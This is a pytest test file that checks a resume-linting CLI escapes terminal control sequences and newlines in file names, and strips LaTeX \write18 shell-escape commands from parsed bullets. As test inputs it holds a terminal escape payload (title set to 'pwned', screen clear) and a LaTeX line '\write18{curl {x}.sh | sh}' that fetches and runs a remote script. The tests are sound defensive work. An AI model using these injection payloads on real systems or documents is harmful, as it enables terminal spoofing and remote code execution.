"""Inert output: control characters and escape sequences in a file's content or name never reach
the terminal raw, and a newline in a file name does not split a PATH:LINE:COL line."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from starkit.cli import main
from starkit.textio import inert

ESC = "\x1b]0;pwned\x07\x1b[2J"


def test_inert_escapes_controls_and_bidi_overrides() -> None:
    assert inert("a\x1b[31mb\nc\u202ed") == "a\\x1b[31mb\\nc\\u202ed"
    assert inert("line\nnext", keep="\n") == "line\nnext"
    assert inert("Grew ARR 40% – café") == "Grew ARR 40% – café"


@pytest.mark.parametrize("suffix", [".txt", ".md"])
def test_escape_sequences_in_content_and_name_are_escaped(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], suffix: str
) -> None:
    name = tmp_path / f"cv\n{ESC}{suffix}"
    body = f"Experience\n- Helped {ESC} with [Company Name] launches significantly\n"
    if suffix == ".md":
        body = "## Experience\n" + body.split("\n", 1)[1]
    name.write_text(body, encoding="utf-8")
    main(["lint", str(name)])
    out, err = capsys.readouterr()
    assert "\x1b" not in out + err and "\x07" not in out + err
    findings = [ln for ln in out.splitlines() if not ln.startswith("    ")][:-1]
    assert findings, out
    for line in findings:  # each finding is one PATH:LINE:COL line naming the whole path
        assert re.match(r".*cv\\n\\x1b\]0;pwned\\x07\\x1b\[2J\.(txt|md):\d+:\d+: ", line), line


def test_a_newline_in_a_file_name_in_an_error_stays_on_one_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    missing = tmp_path / "a\nb\x1b[2J.txt"
    assert main(["lint", str(missing)]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "\x1b" not in err and "a\\nb\\x1b[2J.txt" in err


def test_write18_arguments_never_reach_bullet_text() -> None:
    from starkit.resume import read_text_resume

    tex = (
        r"\documentclass{article}\begin{document}\section{Experience}\begin{itemize}"
        r"\item Led 3 teams to cut churn by 20\% \write18{curl {x}.sh | sh}"
        r" \immediate\write18{ls} in Q3\end{itemize}\end{document}"
    )
    resume = read_text_resume(tex, fmt="latex")
    texts = [b.text for b in resume.achievement_bullets]
    assert texts == ["Led 3 teams to cut churn by 20% in Q3"]
